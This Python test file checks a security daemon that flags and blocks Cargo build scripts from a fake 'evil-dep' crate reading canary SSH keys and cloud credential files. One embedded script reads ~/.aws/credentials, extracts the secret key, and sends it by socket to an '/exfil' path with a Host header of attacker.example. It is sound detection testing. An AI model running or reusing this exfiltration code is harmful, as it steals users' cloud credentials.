"""Credential reads: a build script reading the SSH key and cloud credentials of its $HOME.

The build's $HOME is a test home holding canary credentials; what the build script could read
is what it wrote back into the workspace, and what the daemon wrote is grepped for the canary.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.kernel.netlab import DaemonHandle, TestHost, Workspace

CANARY = "canary-credential-Qx7Vb2Nm9Lk4Jh6G"


def make_home(root: Path) -> Path:
    home = root / "home"
    for rel in (".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/legacy/adc.json",
                ".notes.txt"):
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(f"{rel} {CANARY}\n")
    return home


@pytest.mark.parametrize("mode", ["audit", "enforce"])
def test_a_build_script_reading_credentials_is_an_alert_and_refused_in_enforce(
        daemon: DaemonHandle, test_host: TestHost, workspace: Workspace, tmp_path: Path,
        mode: str) -> None:
    daemon.restart(policy=f"version: 1\nmode: {mode}\n")
    home = make_home(tmp_path)
    reads = ".ssh/id_ed25519,.aws/credentials,.config/gcloud/legacy/adc.json,.notes.txt"
    actions = ",".join(f"read={r}" for r in reads.split(","))
    workspace.cargo_build(test_host, actions, env_extra={
        "HOME": str(home), "RUSTUP_HOME": str(Path.home() / ".rustup"),
        "CARGO_HOME": str(Path.home() / ".cargo")})  # the build goes on in both modes
    daemon.wait_event("build_end", lambda e: e["type"] == "build_end")
    got = {rel: (workspace.root / f"read-{rel.replace('/', '_')}").read_text().split()[0]
           for rel in reads.split(",")}
    denied = "err" if mode == "enforce" else "ok"
    assert got == {".ssh/id_ed25519": denied, ".aws/credentials": denied,
                   ".config/gcloud/legacy/adc.json": denied, ".notes.txt": "ok"}
    alerts = [e for e in daemon.events("alert") if e["kind"] == "credential_read"]
    assert sorted(a["evidence"]["path"] for a in alerts) == sorted(
        str(home / r) for r in reads.split(",")[:3])
    for alert in alerts:
        assert alert["role"] == "build-script" and alert["severity"] == "critical"
        assert alert["crate"] == {"name": "evil-dep", "version": "0.3.10"}
        assert alert["blocked"] is (mode == "enforce") and alert["process"]["pid"] > 0
    assert daemon.stop() == 0
    for path in (daemon.events_path, daemon.log_path):
        assert CANARY not in path.read_text(), path


SECRET_IN_FILE = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzFILEonly"  # in the file, in no environment
SEND_FROM_FILE = r'''
import os, socket, sys, urllib.parse
text = open(os.path.expanduser("~/.aws/credentials")).read()
value = text.split("aws_secret_access_key = ")[1].split()[0]
s = socket.create_connection((sys.argv[1], 8080), timeout=5)
s.sendall(b"GET /exfil?k=" + urllib.parse.quote(value, safe="").encode() + b" HTTP/1.1\r\n"
          b"Host: attacker.example\r\n\r\n")
s.recv(100)
'''


def test_a_value_read_from_a_credential_file_is_recognised_when_sent(
        daemon: DaemonHandle, test_host: TestHost, workspace: Workspace, tmp_path: Path) -> None:
    """The build reads ~/.aws/credentials and sends the secret key it found there: the value
    was never in any environment, yet the alert names the file, and the value is written
    nowhere."""
    daemon.restart(policy="version: 1\nmode: audit\n")
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text(
        f"[default]\naws_access_key_id = AKIAEXAMPLEKEYID\naws_secret_access_key = "
        f"{SECRET_IN_FILE}\n")
    (workspace.root / "send.py").write_text(SEND_FROM_FILE.replace(
        "sys.argv[1]", repr(test_host.v4)))
    workspace.cargo_build(test_host, "py=send", env_extra={
        "HOME": str(home), "RUSTUP_HOME": str(Path.home() / ".rustup"),
        "CARGO_HOME": str(Path.home() / ".cargo")})
    alert = daemon.wait_event("the secret_value alert", lambda e: e["type"] == "alert"
                              and e["kind"] == "secret_value")
    assert alert["evidence"]["secret_names"] == ["file .aws/credentials"]
    assert alert["role"] == "build-script" and alert["crate"]["name"] == "evil-dep"
    assert [r["path"].split("?")[0] for r in test_host.requests()] == ["/exfil"]  # audit
    assert daemon.stop() == 0
    for path in (daemon.events_path, daemon.log_path):
        text = path.read_text()
        assert SECRET_IN_FILE not in text and "FILEonly" not in text, path
